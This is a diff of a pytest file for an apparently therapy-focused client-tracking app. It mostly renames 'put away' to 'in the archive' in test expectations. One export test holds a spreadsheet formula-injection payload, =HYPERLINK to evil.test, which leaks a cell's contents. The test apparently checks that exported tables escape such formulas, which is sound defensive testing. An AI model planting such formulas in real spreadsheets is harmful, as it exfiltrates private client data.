@@ -49,6 +49,7 @@ def says():
             link=link,
             answer_id=share.row_id,
             revision=share.revision_id,
+            shared_on=NOW.date(),
             writer=writer,
             token=uuid.uuid4(),
             written_at=timezone.now(),
@@ -247,7 +248,7 @@ def test_another_therapist_sees_nothing_of_it(trial, care, writer):
 
 @pytest.fixture
 def three(trial, clock, care, therapist, writer, stranger, partner):
-    """Tuesday has something new, Zoë something due, Adam nothing; one file is put away."""
+    """Tuesday has something new, Zoë something due, Adam nothing; one file is in the archive."""
     shared(care, signed_in(writer))
     zoe = carelinks.make_link(a_file(therapist, "Zoë"), stranger)
     assigned(zoe, due_on=date(2026, 5, 18))
@@ -267,7 +268,7 @@ def three(trial, clock, care, therapist, writer, stranger, partner):
         ({"show": "client"}, ["Zoë"]),
         ({"show": "due"}, ["Zoë"]),
         ({"show": "unlinked"}, []),
-        ({"show": "archived"}, ["Past 10 | not linked, put away"]),
+        ({"show": "archived"}, ["Past 10 | not linked, in the archive"]),
     ],
 )
 def test_some_of_them_in_some_order(three, look, asked, found):
@@ -281,7 +282,7 @@ def test_some_of_them_in_some_order(three, look, asked, found):
     [
         ("zoe", ["Zoë"]),
         ("tues", [LABEL]),
-        ("10", ["Past 10 | not linked, put away", LABEL]),
+        ("10", ["Past 10 | not linked, in the archive", LABEL]),
         ("10 tue", [LABEL]),
         ("!", []),
         (" ", [LABEL, "Zoë", "Adam"]),
@@ -321,7 +322,7 @@ def test_what_is_new_in_a_file_that_is_put_away_is_not_lost(trial, clock, care, 
     care.file.save()
     page = look().content.decode()
     assert "Nothing is new since you last looked." in page
-    assert "Something is new in a file that is put away." in page
+    assert "Something is new in a file in the archive." in page
 
 
 def test_a_table_that_no_spreadsheet_calculates(trial, clock, care, look, therapist, writer):
@@ -338,7 +339,7 @@ def test_a_table_that_no_spreadsheet_calculates(trial, clock, care, look, therap
         [
             *("Client", "State", "Waits on", "Assigned"),
             *("Not yet read: answers", "Not yet read: weeks", "New replies"),
-            *("Next due", "Was due", "Last session", "Put away"),
+            *("Next due", "Was due", "Last session", "In the archive"),
         ],
         [
             *('\'=HYPERLINK("https://evil.test/?"&B2)', "linked", "you"),
@@ -361,8 +362,8 @@ def test_a_file_is_put_away_and_taken_out(care, desk, writer, writing):
     assert desk.post(address).headers["Location"] == "/care/"
     page = desk.get("/care/")
     assert rows(page) == []
-    assert "The file is put away" in page.content.decode()
-    assert rows(desk.get("/care/?show=archived")) == [(f"{LABEL} | put away", *IDLE[1:])]
+    assert "The file is in the archive now" in page.content.decode()
+    assert rows(desk.get("/care/?show=archived")) == [(f"{LABEL} | in the archive", *IDLE[1:])]
     assert [writing.get(path).content for path in ("/workbook/", "/sharing/")] == before
     assert access.care_of(writer) == care
     desk.post(address, {"away": "yes"})
